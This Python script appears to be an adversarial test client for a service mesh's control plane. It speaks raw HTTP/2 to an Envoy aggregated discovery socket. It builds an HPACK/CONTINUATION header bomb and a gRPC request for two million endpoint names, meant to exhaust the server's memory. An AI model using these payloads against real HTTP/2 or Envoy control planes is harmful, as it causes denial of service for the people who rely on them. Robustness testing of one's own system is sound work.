"""HTTP/2 as somebody writes it who means no good, sharing no code with the mesh. Run as a pod's proxy (weft.dev/proxy-command)
it registers with the control plane and asks for two million names:   http2_adversary.py ... -c BOOTSTRAP"""
import json
import socket
import struct
import sys
import threading
import time

from http2_bytes import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, OPENING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                         Frames, frame, literal, text)

ADS = b"/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources"


def call_head():
    return b"\x83\x86\x04" + text(ADS) + b"\x01" + text(b"x")


def header_bomb(continuations):
    """A few KB that unpack to 65 MB for each frame: references of one byte to a field of 4000 bytes."""
    block = call_head() + literal(b"a", b"v" * 4000, True)
    out = OPENING + frame(HEADERS, 0, 1, block + b"\xbe" * (16384 - len(block)))
    return out + b"".join(frame(CONTINUATION, 0, 1, b"\xbe" * 16384) for _ in range(continuations))


def varint(number):
    out = b""
    while number >= 128:
        out += bytes([number % 128 + 128])
        number //= 128
    return out + bytes([number])


def member(number, data):
    return varint(number << 3 | 2) + varint(len(data)) + data


def names_request(node, count):
    names = b"".join(member(3, b"%x" % i) for i in range(count))
    url = b"type.googleapis.com/envoy.config.endpoint.v3.ClusterLoadAssignment"
    message = member(2, member(1, node)) + names + member(4, url)
    return b"\0" + struct.pack(">I", len(message)) + message


class Window:
    """What the peer allows us to send."""

    def __init__(self, connection):
        self.connection, self.left, self.changed, self.closed = connection, [65535, 65535], threading.Condition(), False
        threading.Thread(target=self.read, daemon=True).start()

    def read(self):
        for kind, flags, stream, payload in Frames(self.connection):
            self.take(kind, flags, stream, payload)
        with self.changed:
            self.closed = True
            self.changed.notify()

    def take(self, kind, flags, stream, payload):
        with self.changed:
            if kind == WINDOW_UPDATE:
                self.left[0 if stream == 0 else 1] += int.from_bytes(payload, "big")
            elif kind == SETTINGS and not flags & ACK:
                for at in range(0, len(payload), 6):
                    if payload[at:at + 2] == b"\0\4":
                        self.left[1] += int.from_bytes(payload[at + 2:at + 6], "big") - 65535
                self.connection.sendall(frame(SETTINGS, ACK, 0))
            elif kind in (RST_STREAM, GOAWAY) or (kind == HEADERS and flags & END_STREAM):
                self.closed = True
            self.changed.notify()

    def take_some(self, most):
        with self.changed:
            self.changed.wait_for(lambda: self.closed or min(self.left) > 0, 20)
            size = 0 if self.closed else min(most, 16384, *self.left)
            self.left = [each - size for each in self.left]
            return size


def main():
    bootstrap = json.load(open(sys.argv[sys.argv.index("-c") + 1]))
    cluster = bootstrap["static_resources"]["clusters"][0]["load_assignment"]["endpoints"][0]["lb_endpoints"][0]
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(cluster["endpoint"]["address"]["pipe"]["path"])
    head = call_head() + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")
    connection.sendall(OPENING + frame(HEADERS, END_HEADERS, 1, head))
    window, data = Window(connection), names_request(bootstrap["node"]["id"].encode(), 2_000_000)
    print("sending", len(data), "bytes", flush=True)
    try:
        while data and (size := window.take_some(len(data))):
            connection.sendall(frame(DATA, 0, 1, data[:size]))
            data = data[size:]
    except OSError as error:
        print("ended:", error, flush=True)
    print("unsent", len(data), "of the request", flush=True)
    while True:
        time.sleep(60)


if __name__ == "__main__":
    main()
